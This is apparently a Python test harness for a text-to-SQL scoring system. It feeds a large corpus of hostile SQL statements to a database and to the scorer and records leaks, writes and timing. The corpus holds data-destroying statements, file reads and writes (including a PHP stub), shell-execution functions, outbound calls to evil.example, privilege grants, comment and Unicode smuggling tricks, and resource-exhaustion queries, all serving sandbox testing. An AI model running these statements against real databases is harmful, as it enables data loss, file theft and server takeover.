"""Hostile statements, and the process that puts them to a database: `python injections.py URL DIALECT FILE OUT` prints what came of each as JSON.

FILE exists and must not be read, OUT must not come to be. A statement is a line; the long ones are built below."""
import json, os, sys, time

QUICK = r"""
-- writing rows
DELETE FROM customers
DELETE FROM customers WHERE 1 = 1 RETURNING *
DELETE FROM customers; SELECT 1
UPDATE customers SET creditLimit = 0
UPDATE customers SET creditLimit = 0 RETURNING customerNumber
INSERT INTO offices SELECT * FROM offices
INSERT INTO offices (officeCode) VALUES ('9') ON DUPLICATE KEY UPDATE city = 'x'
INSERT OR REPLACE INTO offices (officeCode) VALUES ('1')
REPLACE INTO offices (officeCode) VALUES ('1')
MERGE INTO customers USING payments ON customers.customerNumber = payments.customerNumber WHEN MATCHED THEN DELETE
TRUNCATE TABLE customers
TRUNCATE customers
SELECT * FROM (DELETE FROM customers RETURNING *) AS t
WITH gone AS (DELETE FROM customers RETURNING *) SELECT * FROM gone
WITH w AS (INSERT INTO offices SELECT * FROM offices RETURNING 1) SELECT * FROM w
WITH w AS (UPDATE customers SET creditLimit = 0 RETURNING 1) SELECT COUNT(*) FROM w
WITH t AS (SELECT 1) DELETE FROM customers
WITH t AS (SELECT 1) UPDATE customers SET creditLimit = 0
WITH t AS (SELECT 1) INSERT INTO offices SELECT * FROM offices
(DELETE FROM customers)
FROM customers DELETE
-- changing the schema
DROP TABLE customers
DROP TABLE IF EXISTS payments CASCADE
DROP DATABASE classicmodels
DROP SCHEMA main CASCADE
DROP VIEW IF EXISTS v
CREATE TABLE stolen AS SELECT * FROM customers
CREATE TEMPORARY TABLE stolen AS SELECT * FROM customers
CREATE TEMP TABLE stolen (a int)
CREATE VIEW v AS SELECT * FROM customers
CREATE OR REPLACE FUNCTION f() RETURNS INT RETURN 1
CREATE FUNCTION f RETURNS STRING SONAME 'udf.so'
CREATE MACRO f(a) AS a + 1
CREATE TRIGGER t BEFORE INSERT ON customers FOR EACH ROW SET NEW.city = 'x'
CREATE INDEX i ON customers (city)
CREATE USER evil IDENTIFIED BY 'x'
CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')
ALTER TABLE customers ADD COLUMN x INT
ALTER TABLE customers RENAME TO gone
ALTER USER root IDENTIFIED BY 'x'
RENAME TABLE customers TO gone
GRANT ALL ON *.* TO evil
REVOKE ALL ON *.* FROM root
SELECT * INTO stolen FROM customers
SELECT 1 INTO @x
COMMENT ON TABLE customers IS 'x'
-- several statements
SELECT 1; DROP TABLE customers
SELECT 1; DROP TABLE customers; --
SELECT 1;; DELETE FROM customers
SELECT 1 -- ; \nDELETE FROM customers
; DROP TABLE customers
SELECT ';' ; DROP TABLE customers
SELECT 1; COMMIT; DELETE FROM customers
BEGIN; DELETE FROM customers; COMMIT
DELIMITER // SELECT 1 // DROP TABLE customers //
SELECT 1 UNION SELECT 2; DELETE FROM customers WHERE 'a' = 'a
SELECT 'it\'s'; DELETE FROM customers; -- '
SELECT "a"; DELETE FROM customers
SELECT `a`; DELETE FROM customers
SELECT $$a$$; DELETE FROM customers
-- comments
/*! DELETE FROM customers */
/*!50000 DROP TABLE customers */
SELECT 1 /*! INTO OUTFILE '{out}' */
SELECT 1 /*!50000 INTO OUTFILE '{out}' */
SELECT 1 /*M!100100 INTO OUTFILE '{out}' */
SELECT /*!50000 LOAD_FILE('{file}') */
SELECT 1 /*!99999 ; DROP TABLE customers */
SELECT 1 /*+ SET_VAR(max_execution_time=0) */ FROM customers
SELECT 1 /* */ INTO /* */ OUTFILE '{out}'
SELECT 1 /* unclosed
SELECT /**/ 1 /**/ FROM /**/ mysql.user
SELECT 1 # \n INTO OUTFILE '{out}'
SELECT 1 --\n INTO OUTFILE '{out}'
SELECT 'a' '/*' , LOAD_FILE('{file}') , '*/'
DE/**/LETE FROM customers
SELECT/*!*/1/*!FROM mysql.user*/
-- reading files
SELECT LOAD_FILE('{file}')
SELECT CONCAT(LOAD_FILE('{file}'))
SELECT lOaD_fIlE ('{file}')
SELECT load_file(0x2f6574632f706173737764)
LOAD DATA INFILE '{file}' INTO TABLE offices
LOAD DATA LOCAL INFILE '{file}' INTO TABLE offices
LOAD XML INFILE '{file}' INTO TABLE offices
SELECT * FROM read_csv('{file}')
SELECT * FROM read_csv_auto('{file}')
SELECT * FROM read_text('{file}')
SELECT content FROM read_blob('{file}')
SELECT * FROM read_json('{file}')
SELECT * FROM read_parquet('{file}')
SELECT * FROM sniff_csv('{file}')
SELECT * FROM '{file}'
SELECT * FROM "{file}"
SELECT * FROM `{file}`
FROM '{file}'
FROM read_text('{file}')
TABLE '{file}'
SELECT * FROM glob('/etc/*')
SELECT * FROM glob('{file}')
SELECT (SELECT content FROM read_text('{file}'))
SELECT * FROM customers WHERE city IN (SELECT content FROM read_text('{file}'))
WITH f AS (SELECT * FROM read_text('{file}')) SELECT * FROM f
WITH f AS MATERIALIZED (FROM read_text('{file}')) FROM f
SELECT * FROM customers UNION ALL SELECT * FROM read_csv('{file}')
SELECT * FROM customers, LATERAL (SELECT * FROM read_text('{file}')) AS t
SELECT * FROM query('SELECT * FROM read_text(''{file}'')')
SELECT * FROM query_table('{file}')
SELECT * FROM parquet_metadata('{file}')
SELECT * FROM sqlite_scan('{file}', 't')
SELECT readfile('{file}')
SELECT writefile('{out}', 'x')
SELECT load_extension('{file}')
SELECT edit('x', 'cat {file}')
SELECT fts3_tokenizer('simple', x'00')
SELECT * FROM fsdir('/etc')
SELECT extractvalue(1, CONCAT(0x7e, LOAD_FILE('{file}')))
SELECT updatexml(1, CONCAT(0x7e, LOAD_FILE('{file}')), 1)
SELECT getenv('NL2SQL_CANARY')
SELECT * FROM duckdb_secrets()
SELECT current_setting('home_directory')
-- writing files
SELECT * FROM customers INTO OUTFILE '{out}'
SELECT city INTO DUMPFILE '{out}' FROM customers LIMIT 1
SELECT '<?php ?>' INTO OUTFILE '{out}' LINES TERMINATED BY ''
SELECT 1 UNION SELECT 2 INTO OUTFILE '{out}'
(SELECT 1) INTO OUTFILE '{out}'
SELECT * FROM (SELECT 1 INTO OUTFILE '{out}') AS t
WITH a AS (SELECT 1) SELECT * FROM a INTO OUTFILE '{out}'
SELECT 1 iNtO\toUtFiLe '{out}'
COPY customers TO '{out}'
COPY (SELECT * FROM customers) TO '{out}' (FORMAT csv)
COPY offices FROM '{file}'
COPY customers TO PROGRAM 'cat > {out}'
EXPORT DATABASE '{out}'
IMPORT DATABASE '{file}'
VACUUM INTO '{out}'
ATTACH '{out}' AS other
ATTACH DATABASE '{file}' AS other
ATTACH '{file}' AS other (TYPE sqlite)
DETACH twin
BACKUP DATABASE twin TO '{out}'
-- settings, extensions, other commands
INSTALL httpfs
LOAD httpfs
LOAD '{file}'
FORCE INSTALL vss
INSTALL PLUGIN p SONAME 'x.so'
UNINSTALL PLUGIN p
PRAGMA database_list
PRAGMA enable_external_access
PRAGMA journal_mode = DELETE
PRAGMA writable_schema = 1
PRAGMA query_only = OFF
SELECT * FROM pragma_database_list
SELECT * FROM pragma_query_only
SET enable_external_access = true
SET memory_limit = '100GB'
SET lock_configuration = false
SET GLOBAL general_log_file = '{out}'
SET SESSION TRANSACTION READ WRITE
SET SESSION sql_mode = ''
SET max_statement_time = 0
SET @a = 1
SET PASSWORD = ''
RESET ALL
USE mysql
SELECT @@version
SELECT @@global.secure_file_priv, @@datadir
SELECT @a := 1
SELECT @a := LOAD_FILE('{file}'), @a
SELECT set_config('a', 'b', false)
EXECUTE IMMEDIATE 'DROP TABLE customers'
PREPARE s FROM 'DELETE FROM customers'
PREPARE s AS DELETE FROM customers
EXECUTE s
DEALLOCATE PREPARE s
CALL sys.ps_trace_thread(1, '{out}', NULL, NULL, TRUE, TRUE, TRUE)
CALL pragma_version()
CALL mysql.rds_kill(1)
DO SLEEP(1)
DO RELEASE_LOCK('a')
HANDLER customers OPEN
HANDLER customers READ FIRST
LOCK TABLES customers WRITE
UNLOCK TABLES
FLUSH TABLES WITH READ LOCK
KILL 1
SHUTDOWN
START TRANSACTION READ WRITE
COMMIT
ROLLBACK
SAVEPOINT a
XA START 'a'
SHOW GRANTS
SHOW VARIABLES
DESCRIBE mysql.user
EXPLAIN DELETE FROM customers
EXPLAIN ANALYZE DELETE FROM customers
EXPLAIN ANALYZE SELECT * FROM customers
ANALYZE TABLE customers
ANALYZE DELETE FROM customers
ANALYZE
OPTIMIZE TABLE customers
CHECKPOINT
VACUUM
REINDEX
PURGE BINARY LOGS TO 'x'
CHANGE MASTER TO MASTER_HOST = 'evil.example'
RESIGNAL
BINLOG 'x'
-- system tables, locks, functions with side effects
SELECT * FROM mysql.user
SELECT user, authentication_string FROM mysql.global_priv
SELECT * FROM information_schema.processlist
SELECT * FROM information_schema.tables
SELECT * FROM performance_schema.threads
SELECT * FROM sys.session
SELECT * FROM sqlite_master
SELECT * FROM sqlite_temp_master
SELECT * FROM pg_catalog.pg_tables
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_functions()
SELECT * FROM _nl2sql.meta
SELECT * FROM customers FOR UPDATE
SELECT * FROM customers LOCK IN SHARE MODE
SELECT * FROM customers FOR UPDATE SKIP LOCKED
SELECT GET_LOCK('a', 10)
SELECT IS_FREE_LOCK('a'), RELEASE_ALL_LOCKS()
SELECT MASTER_POS_WAIT('a', 1)
SELECT NEXTVAL(s)
SELECT LAST_INSERT_ID(5)
SELECT nextval('s'), setval('s', 1)
SELECT SYS_EXEC('id')
SELECT sys_eval('id')
SELECT USER(), CURRENT_USER(), DATABASE(), VERSION(), CONNECTION_ID()
SELECT error('stop')
SELECT pg_read_file('{file}')
SELECT xp_cmdshell('id')
EXEC xp_cmdshell 'id'
SELECT UTL_HTTP.request('http://evil.example') FROM DUAL
SELECT * FROM customers PROCEDURE ANALYSE()
SELECT * FROM dblink('x', 'SELECT 1')
SELECT * FROM mysql_query('x', 'SELECT 1')
SELECT * FROM read_csv('http://evil.example/x.csv')
SELECT * FROM 's3://evil/x.parquet'
-- tricks with letters
ＳＥＬＥＣＴ 1; ＤＲＯＰ TABLE customers
SELECT 1；DROP TABLE customers
DROP\u00a0TABLE customers
\ufeffDROP TABLE customers
SELECT 1\u2028; DROP TABLE customers
SELECT '\u02bc; DROP TABLE customers; --'
SELECT \u202e'a'; DROP TABLE customers
SELECT 'a\x00'; DROP TABLE customers
SELECT 1\x00; DROP TABLE customers
\x00DELETE FROM customers
SELECT '\\'; DROP TABLE customers; -- '
SELECT _utf8'a', 0x44454c455445, b'1', X'00'
SELECT CHAR(68,69,76,69,84,69)
SELECT '\ud800'
SELECT 1 AS "a; DROP TABLE customers"
"""
SLOW = r"""
SELECT SLEEP(30)
SELECT * FROM customers WHERE SLEEP(5)
SELECT BENCHMARK(2000000000, MD5('a'))
SELECT COUNT(*) FROM orderdetails a, orderdetails b, orderdetails c, orderdetails d
SELECT * FROM orderdetails a, orderdetails b, orderdetails c
SELECT * FROM orderdetails a CROSS JOIN orderdetails b ORDER BY a.priceEach * b.priceEach
SELECT GROUP_CONCAT(a.productDescription) FROM products a, products b, products c, products d
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT COUNT(*) FROM r
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT a.n + b.n FROM r a, r b) SELECT MAX(n) FROM r
WITH RECURSIVE r AS (SELECT CAST('aaaaaaaaaa' AS CHAR(1000000)) AS s UNION ALL SELECT CONCAT(s, s) FROM r) SELECT MAX(LENGTH(s)) FROM r
SELECT REPEAT('a', 2000000000)
SELECT LENGTH(REPEAT(REPEAT('a', 1000000), 10000))
SELECT LPAD('a', 2000000000, 'b'), SPACE(2000000000)
SELECT REPEAT(productDescription, 1000000) FROM products
SELECT REPLACE(REPLACE(REPEAT('a', 100000), 'a', REPEAT('b', 10000)), 'b', 'cc')
SELECT hex(zeroblob(1000000000))
SELECT randomblob(1000000000)
SELECT printf('%.*c', 1000000000, 'x')
SELECT * FROM range(1000000000000)
SELECT COUNT(*) FROM range(1000000000000) a(x), range(1000000000000) b(y)
SELECT list(x) FROM range(10000000000) t(x)
SELECT * FROM generate_series(1, 1000000000000)
SELECT unnest(range(1000000000))
SELECT range(10000000000)
SELECT COUNT(*) FROM repeat_row(1, num_rows = 10000000000)
SELECT list_aggregate(range(3000000000), 'sum')
SELECT 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' REGEXP '^(a+)+$'
SELECT regexp_replace(REPEAT('a', 30000), '(a*)*b', 'x')
SELECT REPEAT('a', 20000) LIKE '%a%a%a%a%a%a%a%a%a%a%b'
SELECT 1e308 * 1e308, 9223372036854775807 + 9223372036854775807, POW(10, 400), EXP(100000)
"""

def lines(text): return [line for line in text.split('\n') if line and not line.startswith('-- ')]
def unescaped(line): return line.replace(r'\n', '\n').replace(r'\t', '\t').replace(r'\x00', '\x00').encode('utf-8', 'surrogatepass').decode('utf-8', 'surrogatepass')

def statements(file='', out='') -> dict: # {'quick' or 'slow': statements}
    "The corpus, with the paths filled in."
    import re
    def made(line): return re.sub(r'\\u([0-9a-f]{4})', lambda m: chr(int(m[1], 16)), unescaped(line)).replace('{file}', str(file)).replace('{out}', str(out))
    n = 5000
    long = ['SELECT ' + '(' * n + '1' + ')' * n, 'SELECT ' + '-' * 1 + '- ' * n + '1', 'SELECT ' + 'NOT ' * n + '1', 'SELECT 1' + ' + 1' * 400_000, 'SELECT ' + "'a', " * 200_000 + '1',
            'SELECT ' + 'ABS(' * n + '1' + ')' * n, 'SELECT * FROM ' + '(SELECT * FROM ' * 500 + 'customers' + ') AS t' * 500, 'SELECT 1 IN (' + '1, ' * 300_000 + '1)', 'SELECT 1 ' + 'UNION SELECT 1 ' * 3000,
            'SELECT ' + 'CASE WHEN 1 THEN ' * 1000 + '1' + ' END' * 1000, 'x' * 1_000_000, "SELECT '" + 'a' * 1_000_000 + "'", ' ' * 1_000_000 + 'DELETE FROM customers', '/*' * 100_000, 'SELECT "' * 20_000,
            'SELECT * FROM customers WHERE ' + ' AND '.join(['1 = 1'] * 50_000), 'SELECT ' + ', '.join(f'customerNumber AS c{i}' for i in range(5000)) + ' FROM customers', 'WITH ' + ', '.join(f'c{i} AS (SELECT * FROM c{i - 1}, c{i - 1} AS d)' if i else 'c0 AS (SELECT 1 AS a)' for i in range(30)) + ' SELECT COUNT(*) FROM c29']
    return dict(quick=[made(x) for x in lines(QUICK)], slow=[made(x) for x in lines(SLOW)], long=long)


def attack(url, dialect, file, out, limit=.5, only=None):
    "Every statement straight to the engine, then as a prediction; yields (way, statement, outcome, seconds, what leaked)."
    from classicmodels_nl2sql.data import Example, Prediction
    from classicmodels_nl2sql.db import connect
    from classicmodels_nl2sql.evaluate import score
    gold = 'SELECT COUNT(*) FROM offices'
    with connect(url) as db:
        for sql in only or sum(statements(file, out).values(), []):
            started = time.monotonic()
            result = db.run(sql, timeout=limit, max_memory='256MB')
            leaked = [word for word in (open(file).read(), os.environ['NL2SQL_CANARY']) if any(word in str(v) or word.encode() in (v if isinstance(v, bytes) else b'') for row in result.rows for v in row)]
            yield 'run', sql, result.outcome, time.monotonic() - started, leaked
            started = time.monotonic()
            verdict, = score([Example('a', '?', gold)], [Prediction('a', sql=sql)], db, dialect=dialect, timeout=limit)
            yield 'score', sql, verdict.outcome, time.monotonic() - started, ['right'] * verdict.ex
        verdict, = score([Example('a', '?', gold)], [Prediction('a', sql='SELECT COUNT(officeCode) FROM offices')], db, dialect=dialect)
        yield 'after', '', verdict.outcome, 0, [] if verdict.ex else ['the harmless query is wrong']


if __name__ == '__main__':
    import resource
    url, dialect, file, out = sys.argv[1:]
    import classicmodels_nl2sql.evaluate, pymysql   # what they take is not the statements' doing
    list(attack(url, dialect, file, out, only=['SELECT 1']))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tried = [(way, sql[:200], outcome, round(seconds, 3), leaked) for way, sql, outcome, seconds, leaked in attack(url, dialect, file, out)]
    print(json.dumps(dict(tried=tried, grown=(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024)))
